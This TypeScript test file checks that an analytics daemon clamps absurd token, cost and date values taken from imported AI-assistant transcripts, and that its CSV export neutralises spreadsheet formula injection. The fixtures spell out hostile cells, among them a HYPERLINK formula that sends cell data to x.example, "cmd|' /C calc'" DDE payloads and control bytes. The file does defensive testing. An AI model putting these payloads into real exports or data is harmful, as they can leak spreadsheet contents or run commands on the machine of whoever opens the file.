import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { openDatabase } from '../db/database.js';
import { claudeHistorySetup } from '../testing/claude-history.js';
import { startTestDaemon, type TestDaemon } from '../testing/harness.js';
import { claudeLines } from '../testing/transcripts.js';
import { RollupWriter } from './rollup-writer.js';
import { TURN_BOUNDS } from './turn-bounds.js';
import type { TurnRecord } from '../agents/turn-record.js';
import { SCHEMA } from '../schema.js';

const WIDE = 'from=2000-01-01T00:00:00.000Z&to=2100-01-01T00:00:00.000Z';
const ROUTES = [
  `/api/analytics/summary?${WIDE}`,
  `/api/analytics/timeseries?${WIDE}`,
  `/api/analytics/timeseries?${WIDE}&max_points=3000`,
  `/api/analytics/summary`,
  `/api/analytics/timeseries`,
  ...['model', 'subscription', 'app', 'agent', 'tool'].map(
    (by) => `/api/analytics/breakdown?${WIDE}&by=${by}`,
  ),
  `/api/analytics/turns?${WIDE}&limit=500`,
];
const EXPORTS = ['csv', 'json', 'ndjson'].map((f) => `/api/analytics/export?${WIDE}&format=${f}`);
const WEEK_MS = 7 * 86_400_000;

/** Every analytics and export route answers 200 with figures within the bounds. */
async function everyRouteSane(daemon: TestDaemon, turns: number): Promise<void> {
  for (const path of [...ROUTES, ...EXPORTS]) {
    const answer = await daemon.call('GET', path);
    assert.equal(answer.status, 200, `${path}: ${answer.text.slice(0, 300)}`);
  }
  const summary = (await daemon.call('GET', `/api/analytics/summary?${WIDE}`)).body;
  assert.equal(summary.turns, turns);
  for (const value of Object.values(summary.tokens) as number[])
    assert.ok(
      Number.isFinite(value) && value >= 0 && value <= turns * TURN_BOUNDS.tokens,
      `${value}`,
    );
  assert.equal(typeof summary.cost.estimate_usd, 'number');
  assert.ok(summary.cost.estimate_usd <= turns * TURN_BOUNDS.costUsd);
  assert.ok(summary.duration.p95_ms <= WEEK_MS, `p95 ${summary.duration.p95_ms}`);
  const series = (await daemon.call('GET', `/api/analytics/timeseries?${WIDE}`)).body;
  const used = series.points.filter((point: { turns: number }) => point.turns > 0);
  assert.equal(
    used.reduce((sum: number, point: { turns: number }) => sum + point.turns, 0),
    turns,
  );
  for (const point of used) {
    assert.ok(Date.parse(point.t) < Date.now() + 86_400_000, point.t);
    assert.equal(typeof point.cost_estimate_usd, 'number');
    assert.ok(point.duration.p95_ms === null || point.duration.p95_ms <= WEEK_MS);
  }
  const lines = (await daemon.call('GET', EXPORTS[2]!)).text.trim().split('\n');
  assert.equal(lines.length, turns);
  for (const line of lines) {
    const row = JSON.parse(line);
    assert.ok(row.input_tokens <= TURN_BOUNDS.tokens && row.input_tokens >= 0);
    assert.ok(row.cost_estimate_usd === null || row.cost_estimate_usd <= TURN_BOUNDS.costUsd);
    assert.ok(Date.parse(row.ended_at) < Date.now() + 2 * 3_600_000, row.ended_at);
    assert.ok(row.duration_ms <= WEEK_MS);
  }
}

describe(
  'numbers and names from transcripts are bounded where turns are recorded',
  { timeout: 60_000 },
  () => {
    let daemon: TestDaemon;
    let project: string;
    let subscription: string;
    before(async () => {
      ({ daemon, project, subscription } = await claudeHistorySetup());
    });
    after(async () => {
      await daemon.close();
    });

    it('hostile usage, times and names imported: clamped, counted in the report, every route 200', async () => {
      const sessionId = 'aaaaaaaa-9999-4999-8999-999999999999';
      const lines = claudeLines({
        sessionId,
        cwd: '/home/me/project',
        startMs: Date.parse('2026-06-01T09:00:00.000Z'),
        turns: 4,
      }).map((text) => JSON.parse(text) as Record<string, any>);
      const assistants = lines.filter((l) => l['type'] === 'assistant');
      const ids = [...new Set(assistants.map((l) => l['message']['id']))];
      const of = (k: number) => assistants.filter((l) => l['message']['id'] === ids[k]);
      for (const l of of(0)) l['message']['usage']['input_tokens'] = 9e18;
      for (const l of of(1)) l['message']['usage']['output_tokens'] = 1e308;
      for (const l of of(1)) l['message']['usage']['cache_read_input_tokens'] = 9.2e18;
      for (const l of of(2)) l['timestamp'] = '+275760-09-13T00:00:00.000Z';
      lines[0]!['timestamp'] = '+275760-09-13T00:00:00.000Z';
      for (const l of of(3)) l['message']['usage']['cache_creation_input_tokens'] = -5e18;
      for (const l of of(4)) l['message']['model'] = '=HYPERLINK("http://x.example/?q="&A1,"open")';
      for (const l of of(5)) {
        l['message']['usage']['input_tokens'] = 1.5;
        for (const block of l['message']['content'])
          if (block.type === 'tool_use') block.name = "=cmd|' /C calc'!A0";
      }
      writeFileSync(
        join(project, `${sessionId}.jsonl`),
        lines.map((l) => JSON.stringify(l)).join('\n') + '\n',
      );
      const report = await daemon.call('POST', `/api/subscriptions/${subscription}/import`);
      assert.equal(report.status, 200, report.text);
      assert.equal(report.body.turns, ids.length);
      assert.ok(report.body.clamped >= 7, `clamped ${report.body.clamped}`);
      await everyRouteSane(daemon, ids.length);

      const sessions = (
        await daemon.call('GET', `/api/sessions?origin=imported&subscription=${subscription}`)
      ).body.items as { created_at: string; ended_at: string }[];
      assert.equal(sessions.length, 1);
      for (const at of [sessions[0]!.created_at, sessions[0]!.ended_at])
        assert.ok(Date.parse(at) < Date.now() + 2 * 3_600_000, at);
      const models = (await daemon.call('GET', `/api/analytics/breakdown?${WIDE}&by=model`)).body;
      assert.ok(!JSON.stringify(models).includes('HYPERLINK'));
      const tools = (await daemon.call('GET', `/api/analytics/breakdown?${WIDE}&by=tool`)).body;
      assert.ok(!JSON.stringify(tools).includes('cmd|'));
    });
  },
);

describe('CSV export of names stored before they were checked', { timeout: 60_000 }, () => {
  it('neutralises formulas and control bytes, by SQLite and JS alike; JSON keeps the text exact', async () => {
    const daemon = await startTestDaemon({ config: { historyWatch: false } });
    try {
      const insert = daemon.relais.db.prepare(
        `INSERT INTO turns (turn_key, session_id, subscription_id, agent, model, models, app, permission_mode,
           started_at_ms, ended_at_ms, duration_ms, model_calls, input_tokens, output_tokens, cache_read_tokens,
           cache_creation_tokens, cost_usd, is_error, error_kind, error_message, tool_call_count)
         VALUES (?, 's1', 'demo', 'claude', ?, ?, ?, 'write', ?, ?, 5, 1, 10, 1, 0, 0, 0.5, 1, 'x', ?, 0)`,
      );
      const at = Date.parse('2026-06-01T09:00:00.000Z');
      const hostile = [
        ['=HYPERLINK("http://x.example/?"&A1,"open")', 'app', null],
        ['claude-sonnet-4-5', "+cmd|' /C calc'!A0", 'plain message'],
        ['claude-sonnet-4-5', 'app', "-2+3+cmd|' /C calc'!A0"],
        ['@SUM(1+1)', 'app\u0000bell\u0007', '\t=1+1'],
        ['m\u001bm', 'app', 'esc \u001b[31m red'],
      ];
      hostile.forEach(([model, app, error], k) =>
        insert.run(`h${k}`, model, model, app, at + k * 1000, at + k * 1000 + 5, error),
      );
      const csv = (await daemon.call('GET', `/api/analytics/export?${WIDE}&format=csv`)).text;
      assert.doesNotMatch(csv, /[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F]/);
      for (const cell of [
        `"'=HYPERLINK(""http://x.example/?""&A1,""open"")"`,
        `"'+cmd|' /C calc'!A0"`,
        `"'-2+3+cmd|' /C calc'!A0"`,
        `"'@SUM(1+1)"`,
        `"'\t=1+1"`,
      ])
        assert.ok(csv.includes(cell), cell);
      for (const line of csv.split('\r\n').slice(1))
        for (const field of line.split(',')) assert.doesNotMatch(field, /^[=+@]/, line);
      const json = JSON.parse(
        (await daemon.call('GET', `/api/analytics/export?${WIDE}&format=json`)).text,
      );
      assert.deepEqual(
        json.map((row: { model: string }) => row.model),
        hostile.map(([model]) => model),
      );
    } finally {
      await daemon.close();
    }
  });
});

describe('rows stored before the bounds: migration 16 clamps them and builds the rollups again', () => {
  let home: string;
  before(() => {
    home = mkdtempSync(join(tmpdir(), 'relais-old-db-'));
  });
  after(() => rmSync(home, { recursive: true, force: true }));

  it('an old database with 9e18 tokens, 1e308 cost and year 275760 answers 200 everywhere', async () => {
    const db = openDatabase(
      join(home, 'relais.db'),
      SCHEMA.filter((m) => m.version <= 15),
    );
    const insert = db.prepare(
      `INSERT INTO turns (turn_key, session_id, subscription_id, agent, model, models, app, permission_mode,
         started_at_ms, ended_at_ms, duration_ms, model_calls, input_tokens, output_tokens, cache_read_tokens,
         cache_creation_tokens, reasoning_tokens, cost_usd, is_error, error_kind, error_message, tool_call_count)
       VALUES (@turn_key, 's1', 'demo', 'claude', @model, @model, 'app', 'write', @started_at_ms, @ended_at_ms,
         @duration_ms, 1, @input_tokens, @output_tokens, 0, 0, NULL, @cost_usd, 0, NULL, NULL, 0)`,
    );
    const rollups = new RollupWriter(db);
    const base = Date.parse('2026-06-01T09:00:00.000Z');
    const rows = [
      {
        input_tokens: 9_000_000_000_000_000_000n,
        output_tokens: 1,
        cost_usd: 0.5,
        started_at_ms: base,
        ended_at_ms: base + 1000,
        duration_ms: 1000,
      },
      {
        input_tokens: 9_000_000_000_000_000_000n,
        output_tokens: 1,
        cost_usd: 1e308,
        started_at_ms: base + 5000,
        ended_at_ms: base + 6000,
        duration_ms: 1000,
      },
      {
        input_tokens: 10,
        output_tokens: 1,
        cost_usd: 1e308,
        started_at_ms: base + 9000,
        ended_at_ms: 8_640_000_000_000_000,
        duration_ms: 8_640_000_000_000_000 - base,
      },
      {
        input_tokens: 10,
        output_tokens: 2,
        cost_usd: 0.25,
        started_at_ms: base + 9500,
        ended_at_ms: base + 9600,
        duration_ms: 100,
      },
    ];
    db.defaultSafeIntegers(true);
    rows.forEach((row, k) => {
      insert.run({ ...row, turn_key: `k${k}`, model: 'claude-sonnet-4-5' });
      // The rollups summed what was stored, as the writer did then (without bounds).
      const turn = {
        ...row,
        turn_key: `k${k}`,
        session_id: 's1',
        subscription_id: 'demo',
        agent: 'claude',
        model: 'claude-sonnet-4-5',
        models: ['claude-sonnet-4-5'],
        app: 'app',
        permission_mode: 'write',
        model_calls: 1,
        input_tokens: Number(row.input_tokens),
        cache_read_tokens: 0,
        cache_creation_tokens: 0,
        is_error: false,
        error_kind: null,
        error_message: null,
        tool_calls: [],
      } as TurnRecord;
      try {
        rollups.add(turn);
      } catch {
        // The old writer failed here too (integer overflow): the row stayed, the rollup did not.
      }
    });
    db.close();

    const daemon = await startTestDaemon({ home, keepHome: true, config: { historyWatch: false } });
    try {
      await everyRouteSane(daemon, rows.length);
      const stored = daemon.relais.db
        .prepare(
          'SELECT MAX(input_tokens) AS i, MAX(cost_usd) AS c, MAX(ended_at_ms) AS e FROM turns',
        )
        .get() as { i: number; c: number; e: number };
      assert.equal(stored.i, TURN_BOUNDS.tokens);
      // The rollups were built again from the clamped rows: they say what the rows say.
      const sums = (sql: string) => daemon.relais.db.prepare(sql).get();
      for (const grain of [3_600_000, 86_400_000])
        assert.deepEqual(
          sums(
            `SELECT TOTAL(turns) AS n, TOTAL(input) AS i, TOTAL(cost) AS c FROM usage_rollup WHERE grain = ${grain} AND kind = 'none' AND tool_name = ''`,
          ),
          sums('SELECT COUNT(*) AS n, TOTAL(input_tokens) AS i, TOTAL(cost_usd) AS c FROM turns'),
        );
      assert.deepEqual(
        sums(`SELECT COUNT(DISTINCT day) AS d FROM usage_sessions WHERE kind = 'none'`),
        { d: 1 },
      );
      assert.equal(stored.c, TURN_BOUNDS.costUsd);
      assert.ok(stored.e < Date.now() + 2 * 3_600_000);
    } finally {
      await daemon.close();
    }
  });
});
